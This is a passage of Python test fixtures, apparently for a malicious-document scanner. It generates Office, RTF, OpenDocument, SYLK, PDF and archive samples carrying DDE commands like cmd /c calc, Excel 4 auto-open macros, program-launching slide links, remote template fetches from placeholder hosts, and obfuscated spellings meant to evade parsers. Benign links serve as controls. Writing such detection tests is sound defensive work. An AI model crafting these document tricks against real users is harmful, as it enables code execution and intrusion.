        "<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]-->"
    )
    for what, element in (
        ("template", '<w:AttachedTemplate HRef="http://x.example/a.dotm">'),
        ("template-share", "<w:AttachedTemplate HRef='\\\\192.0.2.9\\s\\a.dotm'>"),
        ("sheet", '<x:WorksheetSource HRef="https://x.example/sheet001.htm"/>'),
    ):
        yield f"{what}/letter.doc", f"<html><!--[if gte mso 9]><xml>{element}</xml><![endif]--></html>".encode()
    yield "link/letter.xml", doc.word_2003('<w:hlink w:dest="file:///C:/a.exe"><w:r/></w:hlink>')
    space = "http://schemas.microsoft.com/visio/2003/core"
    drawing = (
        f'<VisioDocument xmlns="{space}"><Hyperlink><Address>search-ms:query=x</Address></Hyperlink></VisioDocument>'
    )
    yield "link/plan.vdx", b'<?xml version="1.0"?>' + drawing.encode()
    page = b"<PageContents><Row><Cell N='Address' V='file:///C:/a.exe'/></Row></PageContents>"
    yield "link/plan.vsdx", doc.ooxml_bytes([("visio/pages/page1.xml", page)], folder="visio")
    yield "field/letter.doc", f"<html><body><p>{field}</p></body></html>".encode()
    for coding in ("utf-8", "utf-16"):
        formula = '<worksheet><c><f>HYPERLINK("\\\\192.0.2.9\\s\\a.exe","x")</f></c></worksheet>'.encode(coding)
        yield f"formula-{coding}/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", formula)], folder="xl")
    for what, text in {
        "joined": 'HYPERLINK(CONCATENATE("file:///C:/","a"&amp;".exe"),"x")',
        "dde": "cmd|'/c calc'!A0",
        "dde-spelled": "1+cmd|&apos;/c calc&apos;!A0",
    }.items():
        sheet = f"<worksheet><c><f>{text}</f></c></worksheet>".encode()
        yield f"formula-{what}/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", sheet)], folder="xl")
    yield "formula/list.slk", b'ID;PWXL;N;E\r\nC;X1;Y1;K0;EHYPERLINK("file:///C:/a.exe")\r\nE\r\n'


def _clicks() -> Iterator[_Made]:
    """Links of a presentation that start a program."""
    for event in ("hlinkClick", "hlinkHover", "hlinkMouseOver"):
        for action in (
            "ppaction://program",
            "PPACTION://Program",
            html.escape("ppaction://program").replace("p", "&#112;", 1),
        ):
            if event != "hlinkClick" and action.startswith("&"):
                continue
            slide = f'<p:sld><a:{event} r:id="rId2" action="{action}"/></p:sld>'.encode()
            yield f"{event}-{action[:2].strip('&')}/talk.ppsx", doc.ooxml_bytes([("ppt/slides/slide1.xml", slide)])
    blanks = b" " * 40
    slide = b'<p:sld><a:hlinkClick r:id="rId2" action' + blanks + b"=" + blanks + b'"ppaction://program"/></p:sld>'
    yield "blanks/talk.pptx", doc.ooxml_bytes([("ppt/slides/slide1.xml", slide)])
    slide = b'<p:sld><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:sld>'
    yield "other-name/talk.pptx", doc.ooxml_bytes([("ppt/slides/slide1.dat", slide)])
    for number, target in enumerate(
        (
            "file:///C:/Windows/System32/cmd.exe",
            "powershell.exe%20-w%20hidden",
            r"\\192.0.2.1\a\b.hta",
            r"C:\Windows\System32\more.com",
            "format.com c:",
            r"..\invoice.com",
            "telnet.exe",
        )
    ):
        yield f"target-{number}/talk.pptx", doc.ooxml_bytes(relations=[("hyperlink", target)])
    atom = struct.pack("<HHL", 0, 0xFF3, 16) + bytes(8) + b"\x02" + bytes(7)
    yield "old/talk.ppt", doc.ole_bytes({"PowerPoint Document": bytes(64) + atom})


def _sheets() -> Iterator[_Made]:
    """SYLK and bare sheets with macros of Excel 4."""
    for what, lines in {
        "auto": "NN;NAuto_open;ER1C1\nC;X1;Y1;ETRUE",
        "sheet": "O;L;E;D;V0\nC;X1;Y1;K1",
        "call": 'C;X1;Y1;K0;EEXEC("calc")',
        "fill": 'C;X1;Y1;K0;EFORMULA.FILL("=A1",A2)',
        "link": "C;X1;Y1;K0;Ecmd|'/c calc'!A0",
        "returns": "P;PGeneral\rO;E\rC;X1;Y1;K1",
    }.items():
        yield f"{what}/list.slk", f"ID;PWXL;N;E\r\n{lines}\r\nE\r\n".encode()
        yield f"{what}/list.csv", f"ID;P\n{lines}\nE\n".encode()
    for version, size in ((0x009, 4), (0x209, 6), (0x409, 6)):
        yield (
            f"bare-{version:x}/list.xls",
            struct.pack("<HHHH", version, size, 2, 0x40) + bytes(size - 4) + b"\x0a\x00\x00\x00",
        )


def _rich() -> Iterator[_Made]:
    """RTF: templates whose address is spelled otherwise, and linked objects by their class."""
    for what, address in {
        "code": "".join(f"\\u{ord(letter)}?" for letter in "http://x.example/t"),
        "hex": "".join(f"\\'{ord(c):02x}" for c in "http:"),
        "no-width": "\\uc0 \\u104ttp:",
        "negative": f"\\u{ord('h') - 65536}?ttp:",
        "groups": "ht{\\b tp}:",
        "hidden": "ht{\\*\\x y}tp:",
        "share": "\\'5c\\'5c192.0.2.1\\'5cs",
    }.items():
        yield f"{what}/letter.rtf", doc.rtf_bytes(before="{\\*\\template " + address + "//x.example/t.dotm}")
    for what, front in (("mark", b"\xef\xbb\xbf"), ("blanks", b"\r\n \n")):
        package = doc.rtf_bytes([doc.ole1_object("Package", doc.ole_package("run.exe", EXE)[4:])])
        yield f"behind-{what}/letter.rtf", front + package
    shape = "{\\shp{\\*\\shpinst{\\sp{\\sn pihlShape}{\\sv {\\*\\hl{\\hlloc }{\\hlsrc file:///C:/a.exe}{\\hlfr x}}}}}}"
    yield "shape/letter.rtf", doc.rtf_bytes(before=shape)
    yield "run/letter.rtf", doc.rtf_bytes(before="{\\*\\template \\bin3 }}}http://x.example/t.dotm}")
    long = "{\\*\\template ht\\bin30000 " + "}" * 30_000 + "tp://x.example/t.dotm}"
    yield "long-run/letter.rtf", doc.rtf_bytes(before=long)
    yield "bare/letter.rtf", doc.rtf_bytes(before="{\\template http://x.example/t.dotm}")
    link = doc.ole_bytes({"\x01Ole": b"x"}, bytes.fromhex("0003000000000000c000000000000046"))
    yield "link/letter.docx", doc.ooxml_bytes([("word/embeddings/oleObject1.bin", link)])
    yield "link/letter.rtf", doc.rtf_bytes([doc.ole1_object("Anything", link)])
    moniker = struct.pack("<LL", 0x2000001, 1) + bytes(12) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
    yield (
        "moniker/letter.doc",
        doc.ole_bytes({"ObjectPool/_1/\x01Ole": moniker + "http://x.example/".encode("utf-16-le")}),
    )


def _content(body: str) -> bytes:
    return (
        f'<office:document-content xmlns:xlink="http://www.w3.org/1999/xlink">{body}</office:document-content>'.encode()
    )


def _open() -> Iterator[_Made]:
    """OpenDocument: DDE, clicks that start a program, and what is fetched from elsewhere; packed and as one XML file."""
    for what, body in {
        "dde-table": '<table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c x"/></table:dde-link>',
        "dde-text": '<text:dde-connection-decl office:name="a" office:dde-application="cmd" office:dde-topic="/c x"/>',
        "dde-formula": '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c x&quot;;&quot;A0&quot;)"/>',
        "dde-formula-late": '<table:table-cell table:formula=\'of:=1+dde ("cmd";"/c x";"A0")\'/>',
        "execute": '<presentation:event-listener presentation:action="execute" xlink:href="file:///C:/Windows/System32/calc.exe"/>',
        "script": '<script:event-listener xlink:href="vnd.sun.star.script:../../../lib/pydoc.py$tempfilepager(1,x)?language=Python"/>',
        "link": '<text:a office:name="a>b" xlink:href="file:///C:/Windows/System32/cmd.exe">open</text:a>',
        "link-spelled": "<text:a l:href='&#102;ile:///C:/x&#46;vbs'>open</text:a>",
        "section": '<text:section-source xlink:href="https://x.example/a.odt"/>',
        "object": '<draw:object xlink:href="https://x.example/a.odt"/>',
        "frame": '<draw:floating-frame xlink:href="https://x.example/"/>',
        "frame-share": '<draw:floating-frame xlink:href="file://192.0.2.1/a/b.html"/>',
        "table": '<table:table-source xlink:href="https://x.example/a"/>',
    }.items():
        yield f"{what}/letter.odt", doc.odf_bytes(extra=[("Object 1/content.xml", _content(body))])
        flat = f'<office:document office:mimetype="application/vnd.oasis.opendocument.text">{body}</office:document>'
        yield f"{what}/letter.fodt", b'<?xml version="1.0"?>' + flat.encode()
    template = '<meta:template xlink:href="https://x.example/a.ott"/>'
    yield "template/letter.odt", doc.odf_bytes(extra=[("meta.xml", _content(template))])
    wide = _content('<text:a xlink:href="file:///C:/x.exe"/>').decode().encode("utf-16")
    yield "wide/letter.odt", doc.odf_bytes(extra=[("styles.xml", wide)])


def _open_links() -> Iterator[_Made]:
    """OpenDocument with what LibreOffice writes every day."""
    body = "".join(
        (
            '<text:a xlink:href="https://example.com/setup.exe">x</text:a><text:a xlink:href="mailto:ann@example.com">x</text:a>',
            '<text:a xlink:href="../plan.odt">x</text:a><draw:object xlink:href="./Object 1"/>',
            '<draw:image xlink:href="https://www.example.com/logo.png"/><text:section-source xlink:href="../chapter.odt"/>',
            '<table:table-source xlink:href="https://www.example.com/rates.csv"/><draw:floating-frame xlink:href="page.html"/>',
            '<draw:floating-frame xlink:href="file:///home/ann/page.html"/>',
            '<meta:template xlink:href="file:///home/ann/Templates/letter.ott"/>',
            '<meta:template xlink:href="file://fs01/templates/letter.ott"/>',
            '<script:event-listener xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>',
            '<presentation:event-listener presentation:action="show" xlink:href="#page2"/>',
            '<office:dde-source office:dde-application="soffice" office:dde-topic="list.ods" office:dde-item="A1"/>',
            '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;list.ods&quot;;&quot;A1&quot;)"/>',
            "<text:p>DDE (Dynamic Data Exchange) and cmd.exe</text:p>",
        )
    )
    yield "links/letter.odt", doc.odf_bytes(extra=[("Object 1/content.xml", _content(body))])


def _packages() -> Iterator[_Made]:
    """Shortcuts in packages."""
    for target in ("C:\\Windows\\System32\\calc.exe", "C:\\Temp\\run.vbs"):
        shortcut = doc.ole_shortcut(target)
        name = target.rpartition("\\")[2]
        yield f"{name}/letter.doc", doc.ole_bytes({"ObjectPool/_1/\x01Ole10Native": shortcut})
        yield (
            f"{name}/letter.docx",
            doc.ooxml_bytes([("word/embeddings/o.bin", doc.ole_bytes({"\x01Ole10Native": shortcut}))]),
        )
        yield f"{name}/letter.rtf", doc.rtf_bytes([doc.ole1_object("Package", shortcut[4:])])


def _streams() -> Iterator[_Made]:
    """Compressed streams: the name is that without the last suffix, whichever it is; each member of gzip has its own."""
    for suffix, packed in {
        "gzip": pack.gzip_bytes(SCRIPT),
        "xz": pack.bzip2_bytes(SCRIPT),
        "bzip2": pack.bzip2_bytes(SCRIPT),
        "zstd": pack.zstd_bytes(SCRIPT),
        "gz": pack.xz_bytes(SCRIPT),
        "bz": pack.bzip2_bytes(SCRIPT),
        "dat": pack.gzip_bytes(SCRIPT),
    }.items():
        yield f"{suffix}/invoice.vbs.{suffix}", packed
    skipped = b"\x50\x2a\x4d\x18\x04\x00\x00\x00abcd"
    for suffix in ("zst", "lz4"):
        yield f"skipped-{suffix}/invoice.vbs.{suffix}", skipped + pack.zstd_bytes(SCRIPT)
    # Without its suffix it would be `invoice.vbs.tar`, as which no script runs.
    yield "skipped-tzst/invoice.tzst", skipped + pack.zstd_bytes(EXE)
    yield "skipped-dat/invoice.dat", skipped * 2 + pack.zstd_bytes(EXE)
    yield "skipped-often/invoice.dat", skipped * 20 + pack.zstd_bytes(EXE)
    yield "skipped-before-lz4/invoice.dat", skipped + pack.lz4_bytes(EXE)
    for suffix in ("-gz", "-z", "_z"):
        yield f"by-gunzip{suffix}/invoice.vbs{suffix}", pack.gzip_bytes(SCRIPT)
    yield "base64/invoice.vbs.b64", base64.encodebytes(SCRIPT)
    yield "other-properties/invoice.vbs.lzma", pack.lzma_bytes(SCRIPT).replace(b"]", b"<", 1)
    text = pack.gzip_bytes(TEXT[1], TEXT[0])
    yield "two/papers.gz", text + pack.gzip_bytes(EXE, "notes.txt")
    yield "three/papers.gz", text + pack.gzip_bytes(b"x", "b.txt") + pack.gzip_bytes(b"MZ\x90\x00" + EXE, "c.dat")


def _unpacked() -> Iterator[_Made]:
    """Archives that people unpack stay judged by names, though they look like a document inside."""
    pieces = [("word/x.vbs", SCRIPT)]
    for name in ("papers.zip", "papers.jar", "papers"):
        yield f"office/{name}", doc.ooxml_bytes(pieces)
        yield f"open/{name}", doc.odf_bytes(extra=pieces)
    yield "inside/letter.docx", doc.ooxml_bytes([("word/embeddings/a.zip", pack.zip_bytes([("run.vbs", SCRIPT)]))])


def _bundles() -> Iterator[_Made]:
    """Folders that macOS starts as one file."""
    for name in (
        "Invoice.app/Contents/MacOS/run",
        "Invoice.workflow/Contents/document.wflow",
        "x/A.App/contents/macos/a",
    ):
        for file, made in (("papers.zip", pack.zip_bytes), ("papers.tar", pack.tar_bytes)):
            yield f"{name.rpartition('/')[2]}/{file}", made([(name, b"#!/bin/sh\necho hello\n"), TEXT])


def _referred() -> Iterator[_Made]:
    """PDF whose embedded file is named or packed by what other objects say, or with what is not undone here; and PDF in
    other things."""
    file, program = doc.pdf_bytes([("run.vbs", SCRIPT)]), doc.pdf_bytes([("notes.dat", EXE)])
    rows = doc.pdf_bytes([("notes.dat", b"".join(b"\0" + EXE[at : at + 1] for at in range(len(EXE))))])
    for what, source, old, new in (
        ("name", file, b"(run.vbs)", b"90 0 R"),
        ("filter", program, b"/FlateDecode", b"91 0 R"),
        ("filters", program, b"/FlateDecode", b"[91 0 R]"),
        ("no-filter", program, b"/FlateDecode", b"99 0 R"),
        ("predictor", rows, b"/FlateDecode", b"/FlateDecode /DecodeParms << /Predictor 12 >>"),
    ):
        for packed, objects in (
            ("", b"90 0 obj (run.vbs) endobj 91 0 obj /FlateDecode endobj "),
            ("-packed", _object_stream({90: b"(run.vbs)", 91: b"/FlateDecode"})),
        ):
            data = source.replace(old, new).replace(b"trailer", objects + b"trailer", 1)
            yield f"{what}{packed}/paper.pdf", data
    yield "behind-picture/paper.pdf", b"GIF89a" + bytes(30) + file
    yield "as-postscript/paper.pdf", b"%!PS-Adobe-3.0 PDF-1.4\n" + file[9:]
    chunk = f"<document><chunk>{doc.base64_text(file)}</chunk></document>"
    yield (
        "form/paper.xdp",
        f'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><pdf>{chunk}</pdf></xdp:xdp>'.encode(),
    )


def _object_stream(objects: dict[int, bytes]) -> bytes:
    """An object stream of a PDF."""
    numbers, body = "", b""
    for number, written in objects.items():
        numbers += f"{number} {len(body)} "
        body += written + b" "
    packed = zlib.compress(numbers.encode() + body)
    head = f"80 0 obj << /Type /ObjStm /N {len(objects)} /First {len(numbers)} /Filter /FlateDecode >> stream\n"
    return head.encode() + packed + b"\nendstream endobj "


def _spelled() -> Iterator[_Made]:
    """Names in PDF with an escape in them."""
    whole = doc.pdf_bytes([PROGRAM])
    for old, new in (
        (b"/EF", b"/E#46"),
        (b"/EF", b"/#45#46"),
        (b"/Filespec", b"/File#73pec"),
        (b"/FlateDecode", b"/Fl#61teDecode"),
        (b"/F 1", b"/#46 1"),
        (b"/Filter", b"/Fil#74er"),
    ):
        yield f"{new.decode()[1:].replace('#', '')}/paper.pdf", whole.replace(old, new)
    yield "launch-comment/paper.pdf", doc.pdf_bytes(launch=True).replace(b"/Launch", b"% (\n/Launch")
    yield "launch/paper.pdf", doc.pdf_bytes(launch=True).replace(b"/Launch", b"/L#61unch")
